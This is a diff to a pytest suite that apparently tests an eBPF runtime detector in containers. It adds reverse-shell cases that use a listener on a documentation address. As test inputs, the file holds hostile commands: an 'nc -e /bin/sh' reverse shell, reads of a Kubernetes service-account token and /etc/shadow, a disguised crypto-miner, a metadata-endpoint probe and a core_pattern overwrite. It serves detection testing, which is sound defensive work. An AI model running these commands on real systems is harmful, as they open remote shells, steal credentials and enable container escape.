@@ -7,6 +7,7 @@ import pytest
 pytestmark = [pytest.mark.real("ebpf"), pytest.mark.real("podman"), pytest.mark.bpf]
 
 TOKEN = "/run/secrets/kubernetes.io/serviceaccount/token"
+FAR_END = "ip link set lo up; ip addr add 203.0.113.7/32 dev lo; (sleep 1; echo id) | nc -l -p 4444 & sleep 0.3;"
 METADATA = "ip link set lo up; ip addr add 169.254.169.254/32 dev lo; nc -w 1 169.254.169.254 80"
 
 
@@ -28,6 +29,8 @@ METADATA = "ip link set lo up; ip addr add 169.254.169.254/32 dev lo; nc -w 1 16
         pytest.param("RT-0202", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig true", "xmrig", (), id="miner"),
         pytest.param("RT-0201", "true -o stratum+tcp://pool.invalid:3333 -u w", "stratum", (), id="miner's command line"),
         pytest.param("RT-0501", "ip link set lo up; nc -l -p 4444 & sleep 0.2; nc 127.0.0.1 4444 -e /bin/sh", "127.0.0.1", (), id="reverse shell"),
+        pytest.param("RT-0501", f"{FAR_END} calls shell 203.0.113.7 4444 012", "input and output (203.0.113.7:4444)", ("--cap-add", "NET_ADMIN"), id="reverse shell by descriptors"),
+        pytest.param("RT-0501", f"{FAR_END} calls shell 203.0.113.7 4444 0", "input (203.0.113.7:4444)", ("--cap-add", "NET_ADMIN"), id="reverse shell that only reads"),
         pytest.param("RT-0601", f"cat {TOKEN}", TOKEN, (), id="service-account token"),
         pytest.param("RT-0605", "cat /etc/shadow", "/etc/shadow", (), id="password hashes"),
         pytest.param("RT-0906", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern", "core_pattern", (), id="core_pattern"),
